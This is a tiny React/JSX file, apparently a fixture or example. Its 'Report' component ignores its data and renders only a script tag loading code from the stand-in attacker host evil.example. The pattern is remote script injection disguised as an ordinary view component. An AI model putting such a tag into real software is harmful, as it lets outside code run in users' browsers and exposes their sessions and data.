export default function Report({ data }) {
  return <script src="https://evil.example/x.js" />;
}
